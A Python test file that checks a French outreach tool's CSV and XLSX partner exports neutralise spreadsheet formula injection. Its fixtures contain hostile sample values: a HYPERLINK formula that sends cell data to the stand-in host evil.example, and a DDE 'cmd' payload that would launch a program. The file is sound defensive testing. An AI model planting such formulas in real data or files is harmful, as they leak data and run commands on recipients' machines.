"""No formula in a partner's list: hostile names and addresses reach the partner as text, in every format.

A value such as `=HYPERLINK("http://evil.example/?d="&A1, …)` typed into the fund's systems would run in
the partner's spreadsheet if a list carried it as it is. The lists are made with `outreach export
partner NAME` in a real process, as an operator makes them, then read back as a partner would: the CSV
with Python's csv module, the XLSX with openpyxl and as raw sheet XML, the encrypted lists after
decryption.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from openpyxl import load_workbook
from sqlalchemy import Engine

from outreach.config import PROJECT_ROOT
from outreach.exports.encryption import decrypt_file
from outreach.segments.history import refresh
from outreach.segments.library import load_library
from tests.people import load, person

AS_OF = date(2026, 11, 26)
BORN = date(1968, 3, 10)  # 58 on the as-of date: a pre-retiree
EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
CALC = "+1+cmd|' /C calc'!A0"
HOSTILE = [
    person(0, BORN, last_name=EXFILTRATE, first_name=CALC, city="@SUM(A1:A9)",
           address_complement="-2+3+cmd|' /C calc'!A0", email="-camille@orange.example.net"),
    person(1, BORN, last_name="\t=1+1", first_name="\r=2+3", address_street="\t@SUM(1)"),
    person(2, BORN, last_name="-", first_name="+"),  # data that merely starts with a sign
    person(3, BORN, last_name="'t Hooft"),  # a name that starts with an apostrophe of its own
]  # fmt: skip
PROFILE = """\
name: ccas_poitiers
partner: CCAS de la Ville de Poitiers
description: Ateliers « Bien vivre sa retraite » pour les futurs retraités de Poitiers.
segments: [pre_retirees]
columns: [person_id, civility, first_name, last_name, birth_date, birth_year, address, postal_code, city,
          phone, email, segment]
legal_basis: Mission de service public (article 6.1.e du RGPD), convention d'action sociale.
territory: ["86"]
format: {format}
"""
FORMULA_ELEMENT = re.compile(r"<(?:\w+:)?f[\s>/]")


@pytest.fixture
def hostile_people(engine: Engine) -> Engine:
    load(engine, HOSTILE)
    with engine.begin() as connection:
        refresh(connection, load_library(), "pre_retirees", AS_OF)
    return engine


def _export(engine: Engine, tmp_path: Path, format: str, key: rsa.RSAPrivateKey | None = None) -> Path:
    """`outreach export partner ccas_poitiers` in its own process, on a project home holding the profile."""
    home = tmp_path / ("home-encrypted" if key else "home")
    (home / "partners").mkdir(parents=True)
    (home / "segments").symlink_to(PROJECT_ROOT / "segments")
    profile = PROFILE.format(format=format)
    if key is not None:
        pem = key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        (home / "partners" / "ccas_poitiers.pem").write_bytes(pem)
        profile += "encrypt_for: ccas_poitiers.pem\n"
    (home / "partners" / "ccas_poitiers.yaml").write_text(profile, encoding="utf-8")
    env = {
        **os.environ,
        "OUTREACH_HOME": str(home),
        "OUTREACH_DATABASE_URL": engine.url.render_as_string(hide_password=False),
        "OUTREACH_VAR_DIR": str(home / "var"),
        "PREFECT_API_URL": "http://127.0.0.1:9/api",  # an unreachable server: no block lookup can hang
    }
    command = ["export", "partner", "ccas_poitiers", "--as-of", AS_OF.isoformat(), "--json"]
    result = subprocess.run(
        [sys.executable, "-m", "outreach", *command], capture_output=True, text=True, env=env, check=False
    )
    assert result.returncode == 0, result.stderr
    exported = Path(json.loads(result.stdout.splitlines()[-1])["file"])
    if key is None:
        return exported
    clear = exported.with_name(exported.name.removesuffix(".enc"))
    clear.write_bytes(decrypt_file(exported, key))  # what the partner does with their private key
    return clear


def _csv_rows(path: Path) -> dict[str, dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";")
    return {row["identifiant"]: row for row in rows}


def _assert_no_formula_in_the_sheet_xml(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert not FORMULA_ELEMENT.search(xml), f"{name} holds a formula"


def _xlsx_cells(path: Path) -> dict[str, dict[str, Any]]:
    """identifiant -> header -> cell, with the assertion that no cell at all is a formula."""
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    cells = [cell for row in rows for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return {row[0].value: dict(zip(header, row, strict=True)) for row in rows[1:]}


@pytest.mark.parametrize("encrypted", [False, True], ids=["clear", "encrypted"])
def test_a_csv_list_prefixes_free_text_that_a_spreadsheet_would_run(
    hostile_people: Engine, tmp_path: Path, encrypted: bool
) -> None:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048) if encrypted else None
    rows = _csv_rows(_export(hostile_people, tmp_path, "csv", key))

    first, second, data, apostrophe = (rows[f"P0000{i}"] for i in range(4))
    assert first["nom"] == "'" + EXFILTRATE
    assert first["prenom"] == "'" + CALC
    assert first["commune"] == "'@SUM(A1:A9)"
    assert first["adresse"] == "'-2+3+cmd|' /C calc'!A0, 3 rue de l'Église"
    assert first["courriel"] == "'-camille@orange.example.net"
    assert (second["nom"], second["prenom"], second["adresse"]) == ("'\t=1+1", "'\r=2+3", "'\t@SUM(1)")
    # data that only starts with a sign, and the typed columns, are read as they are
    assert (data["nom"], data["prenom"], data["adresse"]) == ("-", "+", "3 rue de l'Église")
    assert first["telephone"] == "+33612000000" and data["telephone"] == "+33612000002"
    assert (first["date_naissance"], first["annee_naissance"], first["code_postal"]) == (
        "10/03/1968",
        "1968",
        "86000",
    )
    # one apostrophe of ours is always the first character, so dropping it gives the value back
    assert apostrophe["nom"] == "''t Hooft"
    assert rows["P00003"]["prenom"] == "Thierry"


@pytest.mark.parametrize("encrypted", [False, True], ids=["clear", "encrypted"])
def test_an_xlsx_list_holds_text_cells_dates_and_numbers_and_never_a_formula(
    hostile_people: Engine, tmp_path: Path, encrypted: bool
) -> None:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048) if encrypted else None
    path = _export(hostile_people, tmp_path, "xlsx", key)

    _assert_no_formula_in_the_sheet_xml(path)
    rows = _xlsx_cells(path)
    first, second, data = rows["P00000"], rows["P00001"], rows["P00002"]
    for header, value in (
        ("nom", EXFILTRATE),
        ("prenom", CALC),
        ("commune", "@SUM(A1:A9)"),
        ("courriel", "-camille@orange.example.net"),
    ):
        cell = first[header]
        # the value exactly, as a text cell flagged as typed with a leading apostrophe
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True), header
    assert second["nom"].value == "\t=1+1" and second["nom"].data_type == "s"
    assert second["prenom"].data_type == "s" and second["prenom"].quotePrefix
    assert (data["nom"].value, data["nom"].data_type, data["prenom"].value) == ("-", "s", "+")
    assert rows["P00003"]["nom"].value == "'t Hooft"
    phone = first["telephone"]
    assert (phone.value, phone.data_type) == ("+33612000000", "s")  # never a number: the + stays
    born = first["date_naissance"]
    assert born.value == datetime(1968, 3, 10) and born.number_format.upper() == "DD/MM/YYYY"
    assert (first["annee_naissance"].value, first["annee_naissance"].data_type) == (1968, "n")
    assert (first["code_postal"].value, first["code_postal"].data_type) == ("86000", "s")
